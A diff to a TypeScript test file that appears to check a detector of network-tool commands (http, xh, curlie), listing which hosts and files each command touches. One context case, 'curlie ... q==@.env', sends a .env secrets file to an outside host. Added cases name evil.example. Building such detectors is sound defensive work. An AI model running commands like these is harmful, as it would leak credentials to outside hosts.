@@ -70,6 +70,8 @@ const CASES: [string, string[]][] = [
   ['http PROPFIND x.example', ['host http://PROPFIND', 'host http://x.example']],
   ['xh --resolve github.com:203.0.113.9 https://github.com', ['host 203.0.113.9', 'host https://github.com']],
   ['curlie -H "A: b" https://x.example q==@.env', ['host https://x.example', 'read .env']],
+  ['curlie --retry-max-time 5 evil.example', ['host http://5', 'host http://evil.example']],
+  ['http --max-headers 5 evil.example a=b', ['host http://evil.example']],
 ];
 
 describe('network tools', () => {
